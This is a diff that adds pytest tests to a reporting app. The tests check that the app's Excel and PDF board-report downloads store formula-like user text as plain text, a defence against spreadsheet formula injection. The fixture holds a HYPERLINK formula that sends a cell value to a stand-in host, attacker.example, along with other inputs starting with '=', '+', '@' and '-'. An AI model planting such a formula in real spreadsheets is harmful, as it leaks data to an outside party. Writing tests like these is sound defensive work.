@@ -12,6 +12,7 @@ from qijourney.reporting import selectors, services
 from qijourney.reporting.models import IssuedReport
 from qijourney.spc import analyse
 from tests.factories import PASSWORD, MeasureFactory, PersonFactory
+from tests.workbook import filled_cells, run_on_opening
 
 MONTHS = [dt.date(2024, 1, 1) + dt.timedelta(days=31 * i) for i in range(20)]
 
@@ -214,3 +215,52 @@ def test_baseline_flags_reach_the_board_report(board):
     falls = next(r for r in built.rows if r.name == "Falls")
     first = frame[(frame["metric"] == "Falls") & frame["baseline"]]["value"]
     assert falls.centre == pytest.approx(first.mean())
+
+
+@pytest.fixture
+def awkward_board(board):
+    """The board's metrics renamed as people might type them: like formulas, an error value,
+    a vertical tab pasted from a word processor."""
+    report, metrics = board
+    for measure, name, domain in zip(
+        metrics,
+        ['=HYPERLINK("https://attacker.example/?d="&D5,"Click to verify")', "#N/A", "Falls\x0bday"],
+        ["@Safe", "+Effective", "-Caring"],
+        strict=True,
+    ):
+        measure.name, measure.domain = name, domain
+        measure.save()
+    report.title = "=1+1 board"
+    report.save()
+    return report
+
+
+def assert_text_kept_as_text(content: bytes) -> None:
+    cells = filled_cells(content)
+    assert run_on_opening(cells) == []
+    text = {c.value for c in cells if c.data_type == "s"}
+    assert {
+        '=HYPERLINK("https://attacker.example/?d="&D5,"Click to verify")',
+        "#N/A",
+        "Falls\ufffdday",  # what Excel cannot hold is replaced where it stood
+        "@Safe",
+        "+Effective",
+        "-Caring",
+        "=1+1 board",
+    } <= text
+    numbers = [c for c in cells if c.column == 4 and c.row > 4]  # the latest values
+    assert numbers and all(c.data_type == "n" for c in numbers)
+
+
+def test_excel_download_and_issued_copy_keep_text_as_text(awkward_board, executive, client):
+    client.login(username=executive.email, password=PASSWORD)
+    response = client.get(f"/board/reports/{awkward_board.pk}/download.xlsx")
+    assert response.status_code == 200
+    assert_text_kept_as_text(response.content)
+    assert client.post(f"/board/reports/{awkward_board.pk}/issue/").status_code == 302
+    copy = IssuedReport.objects.get()
+    assert_text_kept_as_text(bytes(copy.xlsx))
+    issued = client.get(f"/board/issued/{copy.pk}/download.xlsx")
+    assert issued.status_code == 200 and issued.content == bytes(copy.xlsx)
+    pdf = client.get(f"/board/reports/{awkward_board.pk}/download.pdf")
+    assert pdf.status_code == 200 and pdf.content.startswith(b"%PDF")
